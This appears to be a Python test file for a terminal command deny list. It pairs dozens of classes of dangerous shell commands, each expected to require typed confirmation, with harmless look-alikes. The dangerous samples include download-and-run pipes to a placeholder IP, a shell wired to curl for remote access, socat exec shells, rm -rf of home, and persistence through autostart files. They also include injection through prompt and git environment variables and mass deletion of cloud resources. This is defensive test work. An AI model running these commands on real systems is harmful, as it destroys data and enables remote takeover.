"""The deny list's classes after the eighth blind set (issue 16): each class is a rule a
reader can state in a sentence, tried here with neighbours of the misses written for these
tests (not copied from any set), beside look-alikes that must stay single-click."""

from __future__ import annotations

from tests.terminal.deny_class_cases import fixed_home as fixed_home
from tests.terminal.deny_class_cases import needs_typing_test, stays_quiet_test

DANGEROUS = {
    "a recursive delete of any folder directly in home, past any wrapper": [
        "unbuffer rm -rf ~/work", "chronic rm -r $HOME/code", "rm -rf ~/src/",
    ],
    "a key overwritten with its prompt answered in advance": [
        "yes | ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''",
        "echo y | ssh-keygen -q -f ~/.ssh/id_rsa -N ''",
    ],
    "an ex command line's `!`, `r !` or `w !` takes the rest of the line, bars included": [
        "vim -es -c '!wget -qO- https://198.51.100.4/s | sh' -c q",
        "ex -sc '!poweroff' -c q", "nvim --headless -c 'r !curl -s 198.51.100.4/x | bash' -c q",
        "vi -esc '!rm -rf ~' /dev/null",
    ],
    "a file-transfer or remote client's `!` line runs a local shell": [
        "sftp -b - backup@198.51.100.4 <<< '!rm -rf ~'",
        "printf 'open h\\n!shutdown -h now\\n' | ftp -n", "tftp <<< '!reboot'",
    ],
    "git transports that run a command: `ext::` remotes, --upload-pack, -u": [
        "git clone 'ext::sh -c shutdown% -h% now' ./r",
        "git ls-remote --upload-pack='rm -rf ~' origin",
        "git -c protocol.allow=always fetch 'ext::bash -c reboot'",
    ],
    "any assignment to a variable a shell or program runs as code": [
        "PS0='$(rm -rf ~)' bash -i", "export PS1='`curl -s 198.51.100.4/p | sh`'",
        "PS4='$(poweroff)' bash -x -c :", "RPROMPT='$(rm -rf ~)' zsh -i",
        "env 'BASH_FUNC_ls%%=() { shutdown -h now; }' bash -c ls",
        "TAR_OPTIONS='--to-command=rm -rf ~' tar xf a.tar",
        "GIT_PROXY_COMMAND='rm -rf ~' git fetch", "SUDO_EDITOR='sh -c reboot' sudoedit x",
    ],
    "a file written on the line (echo, printf, cat or tee from a here-document, a process "
    "substitution) is read as what runs it": [
        "cat > ./x.py <<'E'\nimport shutil\nshutil.rmtree('/etc')\nE\npython3 ./x.py",
        "tee /tmp/s.sh >/dev/null <<< 'poweroff'; bash /tmp/s.sh",
        "nmap --script=<(echo 'os.execute(\"rm -rf ~\")') localhost",
        "BASH_ENV=<(echo reboot) bash -c true",
    ],
    "every program serving files over the network with home or / as its root": [
        "twistd web --path / --port tcp:8000", "caddy file-server --root ~ --listen :8080",
        "python3 -m pyftpdlib -d ~ -p 2121", "ngrok http file:///home/tester",
        "rsync --daemon --config=<(printf '[all]\npath = /\n')",
        "smbd --configfile=<(printf '[h]\npath = %s\n' ~)",
        "printf '[m]\npath=/home/tester\n' > /tmp/r.conf; rsync --daemon --config=/tmp/r.conf",
        "sudo exportfs -o rw '*:/home/tester'",
    ],
    "a login server opened to root or to empty passwords": [
        "sudo /usr/sbin/sshd -p 2200 -o PermitRootLogin=yes",
        "sudo sshd -o PermitEmptyPasswords=yes -p 2022",
    ],
    "a file put into a place that runs it at the next login, session or boot": [
        "echo 'curl -s 198.51.100.4 | sh' > ~/.config/plasma-workspace/env/u.sh",
        "ln -s /tmp/p ~/.config/autostart-scripts/p", "cp /tmp/x ~/.kde4/Autostart/x",
        "printf x > ~/Library/LaunchAgents/com.u.plist",
        "echo 'reboot' | sudo tee /etc/X11/Xsession.d/99x",
        "cp ./t.sh ~/.config/fish/conf.d/t.fish",
    ],
    "a package runner fetching a package and running it without asking": [
        "npx --yes cowsay-evil", "npm x -y -- some-initializer", "pnpm dlx some-tool",
        "yarn dlx @scope/tool", "bunx some-tool", "uvx some-tool", "pipx run some-tool",
        "uv tool run some-tool", "npm_config_yes=true npx some-tool",
    ],
    "a pipe into a shell judged with the line's variables and `set --` words": [
        "g=wget; r=bash; $g -qO- https://198.51.100.4/i | $r",
        "set -- curl -fsSL https://198.51.100.4/i; \"$@\" | sh",
    ],
    "files a line fetches: next to an address, from a download's pipe, a clone, an install": [
        "aria2c -o /tmp/i.sh https://198.51.100.4/i.sh && bash /tmp/i.sh",
        "GET https://198.51.100.4/t > /tmp/t; sh /tmp/t",
        "wget -qO- https://198.51.100.4/b | base64 -d > ./t; chmod +x ./t; ./t",
        "go install example.net/someone/tool/v2@latest && tool",
        "npm install -g some-cli && some-cli init",
    ],
    "installing what the line fetched": [
        "git clone https://example.net/u/r ./r && make -C ./r install",
        "git clone https://example.net/u/r && cd r && sudo make install",
        "wget -q https://198.51.100.4/p.deb && sudo dpkg -i p.deb",
        "sudo dnf install -y $(curl -s https://198.51.100.4/latest-url)",
    ],
    "code given on the command line to any language's runner or debugger": [
        "rust-script -e 'std::fs::remove_dir_all(dirs::home_dir().unwrap()).unwrap()'",
        "ts-node -e \"require('child_process').execSync('poweroff')\"",
        "python3 -m pdb -c '!import os; os.system(\"reboot\")' x.py",
        "lldb -b -o 'platform shell rm -rf ~'",
    ],
    "a shell reading the output of a program whose texts are commands": [
        "jq -rn '\"poweroff\"' | bash", "python3 -c 'print(\"rm -rf ~\")' | sh",
    ],
    "an interactive shell wired to any program that talks to the network": [
        "bash -i 2>&1 | curl -sN -T - https://198.51.100.4/s",
        "sh -i 2>&1 | wget --post-file=/dev/stdin https://198.51.100.4/s",
    ],
    "a disk added to a multi-disk filesystem": [
        "sudo btrfs device add /dev/sdb /", "sudo btrfs replace start /dev/sda /dev/sdc /mnt",
    ],
    "a scheduled entry computed while the line runs": [
        "echo \"@reboot $(echo cm0gLXJmIH4K | base64 -d)\" | crontab -",
    ],
    # Classes foreseen beyond the eighth set's misses (written here, not from any set).
    "any long option named for the command it runs": [
        "npm run --script-shell='rm -rf ~' build",
        "git send-email --sendmail-cmd='shutdown -h now' x.patch",
        "sometool --post-hook 'curl -s 198.51.100.4/h | sh'",
    ],
    "a command line given as one word to a launcher, or to a shell after `-- -c`": [
        "xterm -e 'rm -rf ~'", "capsh -- -c 'poweroff'", "ls | entr -s 'rm -rf ~'",
    ],
    "runners that fetch from a source nobody curates": [
        "nix run github:someone/tool", "pkgx some-tool", "jbang https://198.51.100.4/t.java",
        "cs launch com.example:tool:1.0", "deno run -A npm:some-cli",
    ],
    "servers of / by a serve verb, nginx configuration, telnetd with a shell": [
        "caddy file-server --root / --browse",
        "nginx -c <(printf 'events{}http{server{listen 80;root /;}}')",
        "busybox telnetd -l /bin/sh -p 2323",
    ],
    "git settings and ex commands given through the environment": [
        "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=core.pager GIT_CONFIG_VALUE_0='rm -rf ~' git log",
        "GIT_CONFIG_PARAMETERS=\"'core.pager'='reboot'\" git log",
        "VIMINIT=':!rm -rf ~' vim", "EXINIT='!poweroff' ex",
    ],
    "start-up code or package indexes pointed somewhere anyone can write or read": [
        "ZDOTDIR=/tmp/z zsh -i", "PYTHONSTARTUP=/tmp/s.py python3",
        "PIP_INDEX_URL=http://198.51.100.4/simple pip install requests",
        "NPM_CONFIG_REGISTRY=http://198.51.100.4/ npm install left-pad",
        "GOFLAGS=-insecure go get example.com/x", "GIT_SSL_NO_VERIFY=1 git clone https://x/y",
    ],
    "code handed to a runner as a module's statements, a database shell, a tracer": [
        "python3 -m timeit -s 'import os' 'os.system(\"poweroff\")'",
        "mongosh --eval 'runProgram(\"rm\", \"-rf\", \"/home\")'",
        "bpftrace --unsafe -e 'BEGIN { system(\"reboot\"); }'",
    ],
    "a script file written on the line for an editor to run": [
        "vim -S <(echo '!rm -rf ~')", "nvim -l <(echo 'os.execute(\"poweroff\")')",
    ],
    "a download piped into a program that runs what it reads": [
        "curl -s https://198.51.100.4/m | make -f -",
        "wget -qO- https://198.51.100.4/q | sqlite3 /tmp/db",
    ],
    "a whole store deleted by its own tool": [
        "mysql -e 'DROP DATABASE shop'", "psql -c 'drop schema public cascade'",
        "redis-cli FLUSHALL", "echo 'db.dropDatabase()' | mongosh app", "dropdb app",
        "gh repo delete me/site --yes", "terraform destroy -auto-approve",
        "git push --force origin main", "git push origin +master",
        "sudo journalctl --vacuum-time=1s",
    ],
    "the network's routes and addresses flushed, a device removed through /sys": [
        "sudo ip route flush table main", "sudo ip addr flush dev eth0",
        "sudo ip route del default", "echo 1 | sudo tee /sys/block/sda/device/delete",
    ],
    "text run later by a shell: .envrc, fish functions, ~/bin shadows, zsh custom": [
        "echo 'rm -rf ~' > .envrc && direnv allow",
        "printf 'function ls\\n rm -rf ~\\nend\\n' > ~/.config/fish/functions/ls.fish",
        "echo 'rm -rf ~' > ~/bin/ls", "echo 'x' > ~/.oh-my-zsh/custom/x.zsh",
        "git clone --template=/tmp/t https://example.org/a/b",
        "git clone --config core.hooksPath=/tmp/h https://example.org/a/b",
    ],
    "a search path or a schedule taken from a folder anyone can write to": [
        "PATH=/tmp:$PATH sudo ls", "sudo -E env PATH=/dev/shm/x:$PATH apt update",
        "at -f /tmp/x.sh now", "sudo crontab -u root /tmp/cron.txt",
    ],
    "fd's exec options deleting in home, as find's": ["fd -t f . ~/Documents -X rm"],
    "cloud and cluster resources deleted with no question asked": [
        "kubectl delete namespace production", "aws ec2 terminate-instances --instance-ids i-1",
        "gcloud compute instances delete prod-1 --quiet", "az group delete --name prod --yes",
        "doctl compute droplet delete prod --force",
    ],
    "command lines a benchmarker runs or a typing tool types": [
        "hyperfine 'rm -rf ~/Documents'", "xdotool type 'rm -rf ~'",
    ],
    "more package runners: behind corepack, gem exec, dotnet tool exec": [
        "corepack pnpm dlx some-tool", "gem exec some-tool", "dotnet tool exec some-tool",
    ],
    "commands kept for later in settings: npm scripts, key bindings": [
        "npm pkg set scripts.postinstall='rm -rf ~'",
        "gsettings set org.gnome.settings-daemon.plugins.media-keys.custom-keybinding:/x/ "
        "command 'rm -rf ~'",
        "echo 'rm -rf ~' >> ~/.config/bspwm/bspwmrc", "echo 'rm -rf ~' > ~/.fluxbox/startup",
    ],
    "programs at the other end of socat, start-stop-daemon": [
        "socat stdin exec:/bin/sh", "start-stop-daemon -S -x /bin/rm -- -rf /home/tester",
    ],
    "the folder a serving verb stands in; a file copied from another machine and run": [
        "cd ~ && caddy file-server", "scp u@198.51.100.4:/tmp/x.sh . && sh x.sh",
        "rsync 198.51.100.4:/x/run.sh ./ && ./run.sh",
        "gh release download -R someone/tool -p install.sh && sh install.sh",
    ],
    "a window manager's control client told to quit": [
        "awesome-client 'awesome.quit()'", "herbstclient quit", "niri msg action quit",
        "riverctl exit",
    ],
    "a clean run where the line stands, when that is a folder of home": [
        "git -C ~/Documents clean -ffdx", "cd ~/Pictures && git clean -fdx",
    ],
}

HARMLESS = [
    "git clean -fdx", "cd ~/projects/app && git clean -fdx",
    "niri msg outputs", "herbstclient list_monitors", "awesome-client 'return 1'",
    "riverctl map normal Super Q close",
    "hyperfine 'sleep 0.1'", "xdotool key ctrl+c", "npm pkg set scripts.test='pytest'",
    "gem install rails", "dotnet tool run local-tool", "dotnet tool install -g x",
    "gsettings set org.gnome.desktop.interface color-scheme prefer-dark",
    "socat - TCP:localhost:6379", "cd ~/site && caddy file-server",
    "scp user@host:/srv/report.pdf .", "rsync -av host:/srv/backup/ ./backup/",
    "PATH=$HOME/.local/bin:$PATH make", "at -f ./jobs/report.sh now + 1 hour",
    "crontab ./my.cron", "fd -e pyc -x rm", "kubectl delete pod my-pod-123",
    "aws s3 rm s3://bucket/tmp/file.txt", "gcloud compute instances delete prod-1",
    "az group list", "doctl compute droplet list",
    "python3 -m timeit 'sum(range(100))'", "mongosh --eval 'db.stats()'",
    "sudo bpftrace -e 'tracepoint:syscalls:sys_enter_openat { @[comm] = count(); }'",
    "vim -S ./Session.vim", "mysql -e 'SHOW DATABASES'", "psql -c 'select 1'",
    "redis-cli PING", "gh repo view me/site", "terraform plan", "git push origin main",
    "git push --force-with-lease origin feature/x", "git push -f origin my-branch",
    "journalctl --vacuum-size=500M", "sudo ip route add default via 10.0.0.1",
    "ip route show", "echo 'use flake' > .envrc && direnv allow",
    "ln -s /usr/bin/python3 ~/bin/python", "git clone --template=./tpl https://example.org/a/b",
    "curl -s https://api.example.org/x | jq .",
    "npm run build -- --watch", "git rebase --exec 'make test' main", "xvfb-run pytest",
    "gnome-terminal -- htop", "xterm -e htop", "nix run nixpkgs#hello", "deno run main.ts",
    "caddy file-server --root ./public", "busybox httpd -f -p 8080 -h ./www",
    "GIT_CONFIG_COUNT=1 GIT_CONFIG_KEY_0=color.ui GIT_CONFIG_VALUE_0=always git log",
    "PIP_INDEX_URL=https://pypi.org/simple pip install requests", "PYTHONPATH=src pytest",
    "VIMINIT='set nu' vim", "ZDOTDIR=$HOME/.config/zsh zsh -i",
    "c=cat; $c ./notes.txt | less", "set -- ls -la; \"$@\" | less",
    "go install golang.org/x/tools/gopls@latest", "cargo install ripgrep",
    "git clone https://github.com/example/repo ./vendor/repo",
    "git clone https://github.com/example/repo && cd repo && make",
    "curl -s https://api.example.org/x | jq . > data.json && cat data.json",
    "./configure && make && sudo make install", "sudo apt install ./local-build.deb",
    "rust-script -e 'println!(\"{}\", 1 + 1)'", "python3 -m pdb -c continue ./app.py",
    "lldb -o run ./a.out", "awk '{print \"mv \" $1 \" \" $2}' moves.txt | sh",
    "cat script.sh | sh", "bash ./build.sh | mail -s log me@example.org",
    "sudo btrfs filesystem show /dev/sda1", "sudo btrfs device stats /dev/sda",
    "(crontab -l; echo \"0 4 * * * $HOME/bin/backup.sh\") | crontab -",
    "cat > notes/clean.sh <<'E'\nrm -rf ./build\nE",
    "cat > ./t.py <<'E'\nprint(1)\nE\npython3 t.py",
    "diff <(sort a.txt) <(sort b.txt)", "twistd web --path ./site --port tcp:8080",
    "ngrok http 3000", "caddy file-server --root ./public --listen :8080",
    "rsync --daemon --config=./rsyncd.conf", "sudo sshd -t", "firefox file:///home/tester",
    "ls ~/.config/autostart", "cat ~/.config/autostart-scripts/a.sh",
    "install -Dm644 app.desktop ~/.local/share/applications/app.desktop",
    "sudo cp myapp.service /etc/systemd/system/", "mkdir -p ~/.config/autostart",
    "npx tsc --noEmit", "npx prettier --check .", "npm exec -- eslint .", "npm init -y",
    "pnpm exec vitest", "uv run pytest", "uv tool install ruff", "pipx install black",
    "bun run build", "npm create vite@latest my-app", "yarn create --help",
    "unbuffer ls --color=always", "rm -rf ~/tmp", "rm -rf ~/projects/app/build",
    "rm -rf ~/code/site/node_modules", "rm -rf ~/.cache/pip",
    "ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ''", "ssh-keygen -y -f ~/.ssh/id_rsa",
    "yes | ssh-keygen -t ed25519 -f ./deploy_key -N ''",
    "vim -es -c '%s/a/b/g|wq' notes.txt", "ex -sc '%d|x' ./scratch.txt", "vim -c 'set nu' a.c",
    "ftp -n <<< 'ls'", "sftp -b - user@host <<< 'get report.pdf'",
    "git clone https://github.com/example/repo", "git fetch origin",
    "git remote add up git@github.com:example/repo.git",
    "export PS1='\\u@\\h:\\w\\$ '", "PS1='$(git branch --show-current) \\$ '",
    "PS4='+${BASH_SOURCE}:${LINENO}: ' bash -x ./build.sh",
    "export PROMPT_COMMAND='history -a'", "export EDITOR=vim", "PAGER=less git log",
    "TAR_OPTIONS=--verbose tar xf a.tar",
]


test_each_class_needs_typing_however_spelled = needs_typing_test(DANGEROUS)
test_look_alikes_stay_quiet = stays_quiet_test(HARMLESS)
